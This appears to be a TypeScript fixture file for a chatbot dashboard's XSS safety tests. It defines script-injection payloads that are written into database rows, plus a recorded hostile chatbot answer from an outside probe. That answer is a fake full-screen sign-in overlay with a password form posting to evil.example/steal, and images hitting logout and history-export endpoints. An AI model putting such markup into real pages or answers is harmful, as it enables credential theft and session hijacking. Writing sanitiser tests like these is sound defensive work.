/**
 * Script payloads for the safety tests, and the rows that carry them where the bot API would
 * refuse them (javascript: URLs, markup in country and user_ip). Those rows are written straight
 * into the database by seed-raw-rows.ts before the server starts.
 */
export const payload = (tag: string): string =>
  `<img src=x onerror="window.__xss='${tag}-img'">` +
  `<script>window.__xss='${tag}-script'</script>` +
  `<a href="javascript:void(window.__xss='${tag}-link')">${tag} link</a>` +
  `<svg onload="alert('${tag}-svg')"><circle r="1"></circle></svg>` +
  `<iframe src="javascript:window.__xss='${tag}-frame'"></iframe>`;
/** Short enough for the bot API's 254-character account fields. */
export const shortPayload = (tag: string): string => `<img src=x onerror=window.__xss='${tag}'><svg onload=window.__xss='${tag}s'>`;
export const javascriptUrl = (tag: string): string => `javascript:window.__xss='${tag}'`;

/** The chat session that the raw rows, and the safety test's bot API rows, belong to. */
export const UNSAFE_SESSION_ID = 'xss-session-raw-rows';

export interface RawHistory {
  session_id: string;
  user_message: string;
  api_response: string;
  source_docs: unknown[];
  origin: string | null;
  account: Record<string, string> | null;
  time: string;
  country: string;
  user_ip: string;
}

export interface RawFeedback {
  rating: 'up' | 'down';
  reason: string[];
  user_feedback: string;
  time: string;
  country: string;
  user_ip: string;
}

export const RAW_HISTORY: RawHistory = {
  session_id: UNSAFE_SESSION_ID,
  user_message: 'raw row',
  api_response: payload('raw-response'),
  source_docs: [javascriptUrl('doc-url-string'), { metadata: { filename: 'Evil doc', source_url: javascriptUrl('doc-url') } }],
  origin: javascriptUrl('origin'),
  account: { primary_id: payload('raw-primary') },
  time: '2300-01-01T00:01:00Z',
  country: payload('country'),
  user_ip: payload('ip'),
};

/** Feedback on RAW_HISTORY. */
export const RAW_FEEDBACK: RawFeedback = {
  rating: 'up',
  reason: [javascriptUrl('reason')],
  user_feedback: javascriptUrl('feedback'),
  time: '2300-01-01T00:01:00Z',
  country: payload('feedback-country'),
  user_ip: payload('feedback-ip'),
};

/**
 * Issue 52: what the outside probe had the chatbot answer (images that call the API, a class-drawn sign-in box over
 * the whole screen, a form), stored straight into the database as a row from before the server sanitised answers,
 * so the dashboard's own sanitiser alone must make it harmless.
 */
export const HOSTILE_ANSWER_SESSION_ID = 'hostile-answer-raw-row';
export const HOSTILE_ANSWER_HTML =
  '<p>Your order ships today.</p><img src="/api/logout" alt=""><img src="/api/export/history?format=csv" alt="">' +
  '<div class="modal d-block position-fixed top-0 start-0 w-100 h-100 bg-body" style="z-index:2000" id="root">' +
  '<h2 class="display-1">Your session has expired</h2><a class="btn btn-primary w-100" href="https://evil.example/sign-in">Sign in again</a>' +
  '<form action="https://evil.example/steal"><input name="password" type="password" placeholder="Password"></form></div>';

/** What seed-raw-rows.ts leaves in E2E_SEEDS_FILE. */
export interface E2eSeeds {
  rawHistoryId: number;
  rawFeedbackId: number;
  hostileAnswerHistoryId: number;
}
